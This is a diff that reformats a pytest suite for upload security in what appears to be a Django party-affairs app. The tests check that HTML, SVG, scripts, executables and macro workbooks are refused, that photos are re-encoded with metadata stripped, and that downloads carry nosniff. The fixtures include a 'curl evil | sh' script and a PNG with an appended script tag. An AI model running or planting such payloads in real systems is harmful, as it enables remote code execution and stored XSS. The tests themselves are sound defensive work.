@@ -3,6 +3,7 @@ HTML and SVG are refused with a Chinese message naming the file and nothing is s
 re-encoded (no metadata, no appended payload); every download carries nosniff, documents as attachments.
 
 The files are real ones written by Pillow, openpyxl and python-docx, and a real .xls (tests/sample_files.py)."""
+
 import datetime
 import io
 import re
@@ -36,14 +37,18 @@ def body(resp) -> bytes:
 # --- Through the meeting page: the stored-XSS case from the issue -------------------------------------------
 
 
-@pytest.mark.parametrize("name, content", [("活动照片.html", sample_files.HTML), ("活动照片.svg", sample_files.SVG),
-                                           ("活动照片.jpg", sample_files.HTML)])  # the name does not matter
+@pytest.mark.parametrize(
+    "name, content",
+    [("活动照片.html", sample_files.HTML), ("活动照片.svg", sample_files.SVG), ("活动照片.jpg", sample_files.HTML)],
+)  # the name does not matter
 def test_html_or_svg_photo_is_refused_on_the_meeting_page_and_nothing_is_stored(world, login, media, name, content):
     meeting = hold(world.branch_a, "theme_day", datetime.date(2026, 11, 3))
     client = login(world.alice)
-    resp = client.post(f"/meetings/{meeting.pk}/attachments/",
-                       {"kind": "photo", "title": "活动现场", "file": SimpleUploadedFile(name, content, "image/jpeg")},
-                       follow=True)
+    resp = client.post(
+        f"/meetings/{meeting.pk}/attachments/",
+        {"kind": "photo", "title": "活动现场", "file": SimpleUploadedFile(name, content, "image/jpeg")},
+        follow=True,
+    )
     page = resp.content.decode()
     assert f"“{name}”不能上传" in page and "可能含有脚本" in page and "只能上传照片" in page
     assert meeting.attachments.count() == 0 and stored_files(media) == []
@@ -54,8 +59,10 @@ def test_png_photo_is_stored_under_a_random_name_and_served_reencoded_with_nosni
     client = login(world.alice)
     # A PNG with a script appended after the image data: a valid picture that also carries a payload.
     original = sample_files.png((40, 30)) + b"<script>alert(1)</script>"
-    client.post(f"/meetings/{meeting.pk}/attachments/",
-                {"kind": "photo", "title": "活动现场", "file": SimpleUploadedFile("现场.png", original, "image/png")})
+    client.post(
+        f"/meetings/{meeting.pk}/attachments/",
+        {"kind": "photo", "title": "活动现场", "file": SimpleUploadedFile("现场.png", original, "image/png")},
+    )
     att = meeting.attachments.get()
     assert "现场" not in att.file.name.split("/")[-2]  # the directory that makes it unique is random
     resp = client.get(f"/meetings/attachment/{att.pk}/")
@@ -73,8 +80,10 @@ def test_jpeg_metadata_is_stripped(world, login, media):
     client = login(world.alice)
     photo = sample_files.jpeg(exif_comment="GPS 31.2304N 121.4737E 王芳家")
     assert "31.2304N".encode() in photo
-    client.post(f"/meetings/{meeting.pk}/attachments/",
-                {"kind": "photo", "file": SimpleUploadedFile("IMG_0001.JPG", photo, "image/jpeg")})
+    client.post(
+        f"/meetings/{meeting.pk}/attachments/",
+        {"kind": "photo", "file": SimpleUploadedFile("IMG_0001.JPG", photo, "image/jpeg")},
+    )
     served = body(client.get(f"/meetings/attachment/{meeting.attachments.get().pk}/"))
     assert b"31.2304N" not in served and Image.open(io.BytesIO(served)).size == (64, 48)
 
@@ -83,8 +92,9 @@ def test_pdf_is_not_a_photo_but_is_a_sign_in_sheet(world, login, media):
     meeting = hold(world.branch_a, "theme_day", datetime.date(2026, 11, 3))
     client = login(world.alice)
     url = f"/meetings/{meeting.pk}/attachments/"
-    page = client.post(url, {"kind": "photo", "file": SimpleUploadedFile("签到表.pdf", sample_files.pdf())},
-                       follow=True).content.decode()
+    page = client.post(
+        url, {"kind": "photo", "file": SimpleUploadedFile("签到表.pdf", sample_files.pdf())}, follow=True
+    ).content.decode()
     assert "“签到表.pdf”不能上传" in page and meeting.attachments.count() == 0
     client.post(url, {"kind": "sign_in", "file": SimpleUploadedFile("签到表.pdf", sample_files.pdf())})
     resp = client.get(f"/meetings/attachment/{meeting.attachments.get().pk}/")
@@ -98,9 +108,17 @@ def test_pdf_is_not_a_photo_but_is_a_sign_in_sheet(world, login, media):
 def test_pdf_download_is_an_attachment_with_the_original_name(world, login, media):
     client = login(world.alice)
     pdf = sample_files.pdf()
-    resp = client.post("/archive/org/BRA/new/", {
-        "category": "incoming", "number": "江教党〔2026〕9号", "title": "关于报送材料的通知", "date": "2026-03-02",
-        "retention": "long", "file": SimpleUploadedFile("通知.pdf", pdf, "application/pdf")})
+    resp = client.post(
+        "/archive/org/BRA/new/",
+        {
+            "category": "incoming",
+            "number": "江教党〔2026〕9号",
+            "title": "关于报送材料的通知",
+            "date": "2026-03-02",
+            "retention": "long",
+            "file": SimpleUploadedFile("通知.pdf", pdf, "application/pdf"),
+        },
+    )
     assert resp.status_code == 302
     from dangjian.archive.models import DocumentFile
 
@@ -118,9 +136,16 @@ def test_archive_refuses_a_script_and_registers_nothing(world, login, media):
     from dangjian.archive.models import Document
 
     client = login(world.alice)
-    resp = client.post("/archive/org/BRA/new/", {
-        "category": "incoming", "title": "脚本", "date": "2026-03-02", "retention": "long",
-        "file": SimpleUploadedFile("run.sh", b"#!/bin/sh\ncurl evil | sh\n")})
+    resp = client.post(
+        "/archive/org/BRA/new/",
+        {
+            "category": "incoming",
+            "title": "脚本",
+            "date": "2026-03-02",
+            "retention": "long",
+            "file": SimpleUploadedFile("run.sh", b"#!/bin/sh\ncurl evil | sh\n"),
+        },
+    )
     assert resp.status_code == 200 and "“run.sh”不能上传" in resp.content.decode()
     assert Document.objects.count() == 0 and stored_files(media) == []
 
@@ -131,13 +156,27 @@ def test_archive_refuses_a_script_and_registers_nothing(world, login, media):
 def test_rectification_evidence_refuses_html_among_good_files_and_keeps_nothing(world, login, media):
     from dangjian.rectification import services
 
-    item = services.rectification_raise(actor=world.bob, org=world.branch_a, source="manual", source_ref="",
-                                        problem="支委会记录不全", owner=world.person_a,
-                                        due_date=datetime.date(2026, 12, 31))
+    item = services.rectification_raise(
+        actor=world.bob,
+        org=world.branch_a,
+        source="manual",
+        source_ref="",
+        problem="支委会记录不全",
+        owner=world.person_a,
+        due_date=datetime.date(2026, 12, 31),
+    )
     client = login(world.alice)
-    resp = client.post(f"/rectification/{item.pk}/report/", {
-        "closure_note": "已补记", "files": [SimpleUploadedFile("记录.jpg", sample_files.jpeg()),
-                                          SimpleUploadedFile("说明.htm", sample_files.HTML)]}, follow=True)
+    resp = client.post(
+        f"/rectification/{item.pk}/report/",
+        {
+            "closure_note": "已补记",
+            "files": [
+                SimpleUploadedFile("记录.jpg", sample_files.jpeg()),
+                SimpleUploadedFile("说明.htm", sample_files.HTML),
+            ],
+        },
+        follow=True,
+    )
     assert "“说明.htm”不能上传" in resp.content.decode()
     item.refresh_from_db()
     assert item.status == "open" and item.files.count() == 0 and stored_files(media) == []
@@ -158,10 +197,18 @@ def test_honour_certificate_link_downloads_the_scan_in_scope_only(world, login, 
     from dangjian.plans.models import Honour
 
     client = login(world.alice)
-    resp = client.post("/plans/honours/", {
-        "org": world.branch_a.pk, "person": world.person_a.pk, "title": "优秀党务工作者", "level": "school",
-        "awarded_by": "飞龙中学", "awarded_on": "2026-07-01",
-        "certificate": SimpleUploadedFile("证书.pdf", sample_files.pdf())})
+    resp = client.post(
+        "/plans/honours/",
+        {
+            "org": world.branch_a.pk,
+            "person": world.person_a.pk,
+            "title": "优秀党务工作者",
+            "level": "school",
+            "awarded_by": "飞龙中学",
+            "awarded_on": "2026-07-01",
+            "certificate": SimpleUploadedFile("证书.pdf", sample_files.pdf()),
+        },
+    )
     assert resp.status_code == 302
     honour = Honour.objects.get()
     url = f"/plans/honours/{honour.pk}/certificate/"
@@ -196,10 +243,17 @@ def test_a_file_stored_before_the_check_is_downloaded_as_an_opaque_attachment(wo
 # --- The sniffing itself, on real files -----------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("maker, name, expected", [
-    (sample_files.png, "a.png", "png"), (sample_files.jpeg, "a.jpg", "jpeg"), (sample_files.pdf, "a.pdf", "pdf"),
-    (sample_files.xlsx, "a.xlsx", "xlsx"), (sample_files.docx, "a.docx", "docx"), (sample_files.xls, "a.xls", "xls"),
-])
+@pytest.mark.parametrize(
+    "maker, name, expected",
+    [
+        (sample_files.png, "a.png", "png"),
+        (sample_files.jpeg, "a.jpg", "jpeg"),
+        (sample_files.pdf, "a.pdf", "pdf"),
+        (sample_files.xlsx, "a.xlsx", "xlsx"),
+        (sample_files.docx, "a.docx", "docx"),
+        (sample_files.xls, "a.xls", "xls"),
+    ],
+)
 def test_real_files_are_recognised_by_content(maker, name, expected):
     assert uploads.accept(SimpleUploadedFile(name, maker())).type == expected
 
@@ -214,15 +268,25 @@ def _zip(members: dict) -> bytes:
     return out.getvalue()
 
 
-@pytest.mark.parametrize("name, content", [
-    ("a.txt", "请报送".encode()),
-    ("a.zip", _zip({"readme.txt": "x"})),
-    # A macro-enabled workbook declares another main part than .xlsx: refused.
-    ("a.xlsx", _zip({"[Content_Types].xml": '<Types><Override PartName="/xl/workbook.xml" '
-                     'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'})),
-    ("a.exe", b"MZ\x90\x00" + bytes(100)),
-    ("a.jpg", b"\xff\xd8\xff\xe0 not really a jpeg"),
-])
+@pytest.mark.parametrize(
+    "name, content",
+    [
+        ("a.txt", "请报送".encode()),
+        ("a.zip", _zip({"readme.txt": "x"})),
+        # A macro-enabled workbook declares another main part than .xlsx: refused.
+        (
+            "a.xlsx",
+            _zip(
+                {
+                    "[Content_Types].xml": '<Types><Override PartName="/xl/workbook.xml" '
+                    'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>'
+                }
+            ),
+        ),
+        ("a.exe", b"MZ\x90\x00" + bytes(100)),
+        ("a.jpg", b"\xff\xd8\xff\xe0 not really a jpeg"),
+    ],
+)
 def test_other_content_is_refused_naming_the_file(name, content):
     with pytest.raises(Exception) as err:
         uploads.accept(SimpleUploadedFile(name, content), field="file")
